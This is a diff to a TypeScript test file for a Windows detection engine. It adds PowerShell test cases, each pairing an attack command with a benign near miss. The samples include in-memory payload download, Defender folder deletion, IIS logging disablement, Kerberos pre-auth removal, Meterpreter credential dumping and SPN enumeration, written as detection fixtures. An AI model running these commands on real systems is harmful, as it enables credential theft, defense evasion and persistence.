@@ -1,5 +1,5 @@
 // Built-in rules written from two public analytics catalogues (MITRE CAR and Splunk's endpoint detections over the
-// built-in Windows channels), read as lists of attack shapes: each rule fires on the event it is written for, as Windows
+// built-in Windows channels and PowerShell script block logging), read as lists of attack shapes: each rule fires on the event it is written for, as Windows
 // or Sysmon writes it, with its level and tactic, and a benign near miss of the same event id does not.
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -104,6 +104,51 @@ const cases: [string, string, string, Ev[], Ev[]][] = [
       sysmon(11, { Image: 'C:\\Program Files\\Vendor\\setup.exe', TargetFilename: `${S32}Vendor\\run.bat` })]],
 ];
 
+const PS = 'Microsoft-Windows-PowerShell/Operational';
+const script = (text: string): Ev => win(PS, 'Microsoft-Windows-PowerShell', 4104, { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: text, ScriptBlockId: '{6a1b2c3d-0000-4000-8000-000000000001}', Path: '' }, 'WS01');
+const module = (text: string): Ev =>
+  win(PS, 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe\r\nCommand Name = Invoke-Expression\r\n', Payload: `CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): name="Command"; value="${text}"` }, 'WS01');
+const classic = (text: string): Ev => win('Windows PowerShell', 'PowerShell', 800, { Data: { '#text': [text, `\tHostApplication=powershell.exe\r\n\tCommandLine=${text}\r\n`, 'CommandInvocation(Invoke-Expression): "Invoke-Expression"'] } }, 'WS01');
+
+/** PowerShell families, read in all three logs: [title without the log suffix, level, a tactic, the text, a near miss]. */
+const psCases: [string, string, string, string, string][] = [
+  ['Inbound Allow Firewall Rule Added From PowerShell', 'low', 'defense-impairment',
+    'New-NetFirewallRule -DisplayName "RDP in" -Direction Inbound -LocalPort 3389 -Protocol TCP -Action Allow', 'New-NetFirewallRule -DisplayName "block out" -Direction Outbound -RemoteAddress 203.0.113.7 -Action Block'],
+  ['Certificate Template Abuse Tool Commands In PowerShell', 'medium', 'credential-access',
+    'Invoke-Certify find /vulnerable /currentuser', 'Get-ChildItem Cert:\\LocalMachine\\My | Where-Object { $_.NotAfter -lt (Get-Date) }'],
+  ['Domain Password Policy, OU Or Group Policy Enumerated From PowerShell', 'low', 'discovery',
+    'Get-DomainPolicy -Policy Domain | Select-Object -ExpandProperty SystemAccess', 'Get-ADUser -Identity alice -Properties PasswordLastSet'],
+  ['Directory Objects Listed Through The WMI LDAP Provider', 'low', 'discovery',
+    'Get-WmiObject -Namespace root\\directory\\ldap -Class ds_computer | Select-Object ds_cn', 'Get-WmiObject -Class Win32_ComputerSystem'],
+  ['Kerberos Pre-Authentication Turned Off For An Account From PowerShell', 'medium', 'credential-access',
+    'Set-ADAccountControl -Identity svc_legacy -DoesNotRequirePreAuth:$true', 'Set-ADAccountControl -Identity svc_legacy -DoesNotRequirePreAuth:$false'],
+  ['Mailbox Search Or Mail Password Spraying Functions In PowerShell', 'high', 'collection',
+    'Invoke-GlobalMailSearch -ImpersonationAccount admin -ExchHostname mail.corp.example -OutputCsv out.csv', 'Get-Mailbox -Identity alice | Get-MailboxStatistics'],
+  ['Windows API Functions Resolved By Address In PowerShell', 'medium', 'stealth',
+    '$p = $k32.GetProcAddress($h, "VirtualAlloc"); $f = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p, $t)', '$addr = Resolve-DnsName example.com; "GetProcAddress is documented in MSDN"'],
+  ['Meterpreter PowerShell Extension Bindings Used', 'high', 'execution',
+    '[MSF.Powershell.Meterpreter.Kiwi]::CredsAll()', 'Import-Module Microsoft.PowerShell.Management'],
+  ['Microsoft Defender Folder Deleted From A Script', 'high', 'defense-impairment',
+    'cmd /c rmdir /s /q "C:\\ProgramData\\Microsoft\\Windows Defender"', 'Get-ChildItem "C:\\ProgramData\\Microsoft\\Windows Defender\\Support"'],
+  ['Download Unpacked In Memory From PowerShell', 'medium', 'command-and-control',
+    '$d = (New-Object System.Net.WebClient).DownloadData("http://10.0.0.9/a.gz"); $ms = New-Object IO.MemoryStream(,$d); $gz = New-Object IO.Compression.GzipStream($ms, [IO.Compression.CompressionMode]::Decompress)',
+    '$d = (New-Object System.Net.WebClient).DownloadFile("https://example.com/a.zip", "C:\\Temp\\a.zip")'],
+  ['ESX Admins Group Created From PowerShell', 'medium', 'persistence',
+    'New-ADGroup -Name "ESX Admins" -GroupScope Global -GroupCategory Security', 'New-ADGroup -Name "Finance Readers" -GroupScope Global'],
+  ['Assembly Installed In The Global Assembly Cache From PowerShell', 'medium', 'persistence',
+    '$p = New-Object System.EnterpriseServices.Internal.Publish; $p.GacInstall("C:\\Users\\Public\\mod.dll")', '[System.Reflection.Assembly]::LoadWithPartialName("System.Web")'],
+  ['IIS HTTP Logging Turned Off From PowerShell', 'high', 'defense-impairment',
+    'Set-WebConfigurationProperty -PSPath "IIS:\\" -Filter system.webServer/httpLogging -Name dontLog -Value true', 'Get-WebConfigurationProperty -PSPath "IIS:\\" -Filter system.webServer/httpLogging -Name selectiveLogging'],
+  ['IIS Native Module Registered From PowerShell', 'medium', 'persistence',
+    'New-WebGlobalModule -Name Mod -Image C:\\Windows\\System32\\inetsrv\\mod.dll', 'Get-WebGlobalModule | Select-Object Name'],
+  ['AppLocker Policy Replaced From PowerShell', 'low', 'defense-impairment',
+    'Import-Module AppLocker; Set-AppLockerPolicy -XmlPolicy C:\\Users\\Public\\allow-all.xml', 'Get-AppLockerPolicy -Effective -Xml'],
+  ['Scheduled Job Created Through WMI Win32_ScheduledJob', 'medium', 'persistence',
+    '([wmiclass]"\\\\SRV02\\root\\cimv2:Win32_ScheduledJob").Create("cmd /c C:\\Users\\Public\\u.exe", "********100000.000000-420", $false, 0, 0, $true)', 'Get-ScheduledTask -TaskName upd'],
+  ['Accounts With Service Principal Names Listed From PowerShell', 'low', 'credential-access',
+    'Get-DomainUser -SPN -Properties samaccountname,serviceprincipalname', 'Get-DomainUser -Identity alice -Properties samaccountname'],
+];
+
 describe('built-in rules from the analytics catalogues (MITRE CAR, Splunk endpoint detections)', () => {
   it('load without problems', () => {
     expect(builtin.skipped).toEqual([]);
@@ -116,6 +161,17 @@ describe('built-in rules from the analytics catalogues (MITRE CAR, Splunk endpoi
       expect(h?.level).toBe(level);
       expect(h?.tactics).toContain(tactic);
       expect(hits(nearMiss).has(title)).toBe(false);
+    });
+  }
+
+  for (const [title, level, tactic, text, nearMiss] of psCases) {
+    it(`${title}: fires in 4104, 4103 and 800 (${level}, ${tactic}); its near miss does not`, () => {
+      for (const [log, make] of [['script block 4104', script], ['module logging 4103', module], ['classic pipeline 800', classic]] as const) {
+        const h = hits([make(text)]).get(`${title} (${log})`);
+        expect(h?.level).toBe(level);
+        expect(h?.tactics).toContain(tactic);
+        expect(hits([make(nearMiss)]).has(`${title} (${log})`)).toBe(false);
+      }
     });
   }
 
